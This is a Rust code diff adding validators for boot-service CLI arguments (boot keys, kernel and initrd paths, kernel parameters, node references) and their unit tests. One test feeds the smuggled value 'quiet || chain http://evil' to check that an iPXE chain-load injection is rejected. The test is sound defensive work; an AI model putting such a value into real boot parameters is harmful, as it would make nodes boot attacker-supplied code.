@@ -87,6 +87,72 @@ pub fn hms_type(s: &str) -> Result<String, String> {
     canonical(s, HmsType::as_str)
 }
 
+/// A BSS `hosts` key: a node xname, a role, `Default`, `Global` or `Unknown-<arch>`, in its
+/// canonical spelling (`compute` → `Compute`).
+pub fn boot_key(s: &str) -> Result<String, String> {
+    cairn_protocols::BootKey::parse_field("--host", s)
+        .map(|k| k.to_string())
+        .map_err(|e| e.reason)
+}
+
+/// A kernel URL or path, as boot parameters accept it.
+pub fn kernel(s: &str) -> Result<String, String> {
+    cairn_protocols::validate_image_path("--kernel", s)
+        .map(|()| s.to_owned())
+        .map_err(|e| e.reason)
+}
+
+/// An initrd URL or path.
+pub fn initrd(s: &str) -> Result<String, String> {
+    cairn_protocols::validate_image_path("--initrd", s)
+        .map(|()| s.to_owned())
+        .map_err(|e| e.reason)
+}
+
+/// A kernel command line (no newline, iPXE separator, comment or `${`).
+pub fn kernel_params(s: &str) -> Result<String, String> {
+    cairn_protocols::validate_params(s)
+        .map(|()| s.to_owned())
+        .map_err(|e| e.reason)
+}
+
+/// A node named the three ways BSS accepts: MAC, xname or NID.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum NodeRef {
+    /// By the MAC it boots from (normalized).
+    Mac(String),
+    /// By xname (normalized).
+    Name(String),
+    /// By NID.
+    Nid(i64),
+}
+
+impl NodeRef {
+    /// The bootscript query pair naming the node.
+    pub fn query(&self) -> (&'static str, String) {
+        match self {
+            NodeRef::Mac(m) => ("mac", m.clone()),
+            NodeRef::Name(x) => ("name", x.clone()),
+            NodeRef::Nid(n) => ("nid", n.to_string()),
+        }
+    }
+}
+
+/// A MAC (any usual form), a Node xname or a NID.
+pub fn node_ref(s: &str) -> Result<NodeRef, String> {
+    if let Ok(n) = s.parse::<i64>() {
+        return Ok(NodeRef::Nid(n));
+    }
+    if let Ok(m) = MacAddr::parse(s) {
+        return Ok(NodeRef::Mac(m.to_string()));
+    }
+    match Xname::parse(s) {
+        Ok(x) if x.hms_type() == HmsType::Node => Ok(NodeRef::Name(x.as_str().to_owned())),
+        Ok(x) => Err(format!("{x} is a {}, not a node", x.hms_type())),
+        Err(e) => Err(format!("expected a node's xname, MAC or NID ({e})")),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -113,6 +179,34 @@ mod tests {
         assert_eq!(state("on").as_deref(), Ok("On"));
         assert_eq!(flag("ok").as_deref(), Ok("OK"));
         assert!(state("Sleeping").expect_err("unknown").contains("Sleeping"));
+    }
+
+    #[test]
+    fn boot_arguments() {
+        assert_eq!(boot_key("compute").as_deref(), Ok("Compute"));
+        assert_eq!(boot_key("unknown-X86_64").as_deref(), Ok("Unknown-x86_64"));
+        assert!(boot_key("x1000c0s0b0").unwrap_err().contains("NodeBMC"));
+        assert!(
+            kernel_params("quiet || chain http://evil")
+                .unwrap_err()
+                .contains("||")
+        );
+        assert!(kernel("http://h/a\nb").unwrap_err().contains("newline"));
+        assert_eq!(node_ref("17"), Ok(NodeRef::Nid(17)));
+        assert_eq!(
+            node_ref("AA-BB-CC-DD-EE-FF"),
+            Ok(NodeRef::Mac("aa:bb:cc:dd:ee:ff".into()))
+        );
+        assert_eq!(
+            node_ref("X1000C0S0B0N0"),
+            Ok(NodeRef::Name("x1000c0s0b0n0".into()))
+        );
+        assert!(node_ref("x1000c0s0b0").unwrap_err().contains("not a node"));
+        assert!(
+            node_ref("nid0001")
+                .unwrap_err()
+                .contains("xname, MAC or NID")
+        );
     }
 
     #[test]
